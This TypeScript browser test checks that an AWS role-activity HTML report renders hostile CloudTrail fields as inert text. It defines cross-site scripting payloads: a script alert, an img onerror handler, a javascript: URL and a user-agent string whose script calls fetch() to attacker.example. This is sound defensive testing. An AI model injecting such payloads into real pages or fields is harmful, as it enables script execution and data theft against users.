import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPORT_CSP } from '../../functions/core/report/render-html.ts';
import { writeTrail } from '../../functions/trail-generator/write-trail.ts';
import { ROOT, runCli } from '../cli/run-cli.ts';
import {
  ACCOUNTS,
  assumeRoleRecord,
  denied,
  patched,
  roleSession,
} from '../rules/support/cloudtrail-records.ts';
import { EXAMPLE_TRUST_FILE, runReport } from './support.ts';

/**
 * The HTML report opened in Debian's chromium: it renders, runs nothing that a record carries, and
 * shows hostile strings as text. `.ci/run` sets ROLEWATCH_REQUIRE_BROWSER=1 so that a missing browser
 * fails there; elsewhere the test is skipped with the reason printed.
 */
const CHROMIUM = '/usr/bin/chromium';
const HAS_BROWSER = existsSync(CHROMIUM);
const REQUIRED = process.env.ROLEWATCH_REQUIRE_BROWSER === '1';
/** The README's screenshot; rewritten only with ROLEWATCH_UPDATE_SCREENSHOT=1. */
const SCREENSHOT = join(ROOT, 'fixtures', 'demo', 'report-screenshot.png');

if (!HAS_BROWSER && !REQUIRED) {
  console.warn(`skipping the HTML report browser test: ${CHROMIUM} is missing (apt-get install -y chromium)`);
}

const SCRIPT = '<script>alert("session")</script>';
const IMG = '<img src=x onerror=alert(1)>';
const JS_URL = 'javascript:alert(document.domain)';
const USER_AGENT = `${JS_URL}//<script>fetch("http://attacker.example/ua")</script>`;
const ERROR_MESSAGE = `User: mallory is not authorized ${IMG} <a href="${JS_URL}">x</a>`;

function hostileRecords() {
  const prodAdmin = `arn:aws:iam::${ACCOUNTS.prod}:role/ProdAdmin`;
  const caller = roleSession(ACCOUNTS.tooling, 'ci-runner', SCRIPT);
  const granted = patched(
    assumeRoleRecord({
      identity: caller,
      roleArn: prodAdmin,
      sessionName: IMG,
      eventID: 'hostile-1',
      eventTime: '2026-11-01T12:00:00Z',
    }),
    { userAgent: USER_AGENT },
  );
  const refused = patched(
    denied(
      assumeRoleRecord({
        identity: caller,
        roleArn: prodAdmin,
        eventID: 'hostile-2',
        eventTime: '2026-11-01T12:05:00Z',
      }),
    ),
    { errorMessage: ERROR_MESSAGE, userAgent: USER_AGENT },
  );
  return [granted, refused];
}

describe.skipIf(!HAS_BROWSER && !REQUIRED)('the HTML report in a real browser', () => {
  let work: string;
  let html: string;
  let demoHtml: string;
  let context: BrowserContext;
  const requests: string[] = [];
  const dialogs: string[] = [];
  const consoleErrors: string[] = [];

  async function open(options: { colorScheme?: 'light' | 'dark'; file?: string } = {}): Promise<Page> {
    const page = await context.newPage();
    page.on('request', (r) => requests.push(r.url()));
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    page.on('pageerror', (e) => consoleErrors.push(String(e)));
    if (options.colorScheme !== undefined) await page.emulateMedia({ colorScheme: options.colorScheme });
    await page.goto(pathToFileURL(options.file ?? html).href);
    return page;
  }

  beforeAll(async () => {
    if (!HAS_BROWSER) throw new Error(`ROLEWATCH_REQUIRE_BROWSER=1 but ${CHROMIUM} is missing`);
    work = mkdtempSync(join(tmpdir(), 'rolewatch-browser-'));
    // The demo report exactly as `npm run demo` writes it (same relative paths), for the screenshot.
    mkdirSync(join(work, 'fixtures', 'trust'), { recursive: true });
    copyFileSync(EXAMPLE_TRUST_FILE, join(work, 'fixtures', 'trust', 'example-org.yaml'));
    const trail = join(work, 'fixtures', 'demo', 'trail');
    writeTrail({ records: 3000, demo: true }, trail);
    // In process, one worker: the report is the same for any worker count (report-cli.test.ts).
    const demo = await runCli(
      [
        'report',
        '--config',
        'fixtures/trust/example-org.yaml',
        '--workers',
        '1',
        '--out',
        'fixtures/demo/report',
        'fixtures/demo/trail',
      ],
      { cwd: work },
    );
    expect(demo.status, demo.stderr).toBe(0);
    demoHtml = join(work, 'fixtures', 'demo', 'report', 'report.html');
    // The same trail plus records carrying script, image and javascript: payloads.
    const hostile = join(work, 'hostile.json');
    writeFileSync(hostile, JSON.stringify({ Records: hostileRecords() }));
    const out = join(work, 'report');
    const run = await runReport(out, trail, hostile);
    expect(run.status).toBe(0);
    html = join(out, 'report.html');
    context = await chromium.launchPersistentContext(join(work, 'profile'), {
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
      viewport: { width: 1100, height: 760 },
    });
  }, 120_000);

  afterAll(async () => {
    await context?.close();
    if (work !== undefined) rmSync(work, { recursive: true, force: true });
  });

  it('renders every chart with a non-zero box and logs no error; a screenshot is taken', async () => {
    const page = await open({ file: demoHtml });
    const boxes = await page.evaluate<{ cls: string; width: number; height: number }[]>(
      "[...document.querySelectorAll('svg.chart')].map((s) => { const r = s.getBoundingClientRect(); return { cls: s.getAttribute('class'), width: r.width, height: r.height }; })",
    );
    expect(boxes.length).toBeGreaterThanOrEqual(5);
    for (const kind of ['bars', 'series', 'heat', 'histogram'])
      expect(boxes.some((b) => b.cls?.includes(kind))).toBe(true);
    for (const b of boxes) {
      expect(b.width, `${b.cls}`).toBeGreaterThan(0);
      expect(b.height, `${b.cls}`).toBeGreaterThan(0);
    }
    expect(await page.locator('svg.series rect.bar').count()).toBeGreaterThan(10);
    expect(consoleErrors).toEqual([]);
    const png = await page.screenshot({ path: join(work, 'report.png') });
    expect(png.subarray(1, 4).toString()).toBe('PNG');
    if (process.env.ROLEWATCH_UPDATE_SCREENSHOT === '1') writeFileSync(SCREENSHOT, png);
    await page.close();
  });

  it('runs nothing from hostile records (no script, no dialog, no request) and shows them as text', async () => {
    requests.length = 0;
    const page = await open();
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    const pageUrl = pathToFileURL(html).href;
    expect(requests.filter((u) => u !== pageUrl)).toEqual([]);
    expect(await page.locator('script, img, iframe, object, embed').count()).toBe(0);
    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
    // Expressions as strings: they run in the page (this file is typed for Node, not the DOM).
    const handlers = await page.evaluate<string[]>(
      "[...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on')))",
    );
    expect(handlers).toEqual([]);
    // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what a reader sees
    const text = await page.locator('body').innerText();
    for (const payload of [SCRIPT, IMG, USER_AGENT, ERROR_MESSAGE]) expect(text).toContain(payload);
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(
      REPORT_CSP,
    );
    expect(consoleErrors).toEqual([]);
    await page.close();
  });

  it('follows dark mode and hides navigation when printed', async () => {
    const light = await open({ colorScheme: 'light' });
    const background = 'getComputedStyle(document.body).backgroundColor';
    const lightBg = await light.evaluate<string>(background);
    await light.close();
    const dark = await open({ colorScheme: 'dark' });
    const darkBg = await dark.evaluate<string>(background);
    expect(darkBg).not.toBe(lightBg);
    await dark.emulateMedia({ media: 'print', colorScheme: 'dark' });
    expect(await dark.evaluate<string>("getComputedStyle(document.querySelector('nav')).display")).toBe(
      'none',
    );
    expect(await dark.evaluate<string>(background)).toBe('rgb(255, 255, 255)');
    await dark.close();
  });

  it('is one self-contained file: no tag loads anything, the stylesheet imports nothing', () => {
    const text = readFileSync(html, 'utf8');
    const tags = text.match(/<[a-zA-Z][^>]*>/g) ?? [];
    const names = new Set(tags.map((t) => /^<([a-zA-Z0-9]+)/.exec(t)?.[1]?.toLowerCase()));
    for (const loader of [
      'script',
      'link',
      'img',
      'iframe',
      'object',
      'embed',
      'image',
      'use',
      'audio',
      'video',
    ]) {
      expect(names.has(loader), loader).toBe(false);
    }
    expect(tags.filter((t) => /\s(src|srcset|action|xlink:href)=/i.test(t))).toEqual([]);
    const hrefs = tags.flatMap((t) => [...t.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1]));
    expect(hrefs.filter((h) => !h?.startsWith('#') && !h?.startsWith('https://'))).toEqual([]);
    const style = /<style>([\s\S]*?)<\/style>/.exec(text)?.[1] ?? '';
    expect(style).not.toMatch(/@import|url\(/i);
  });
});
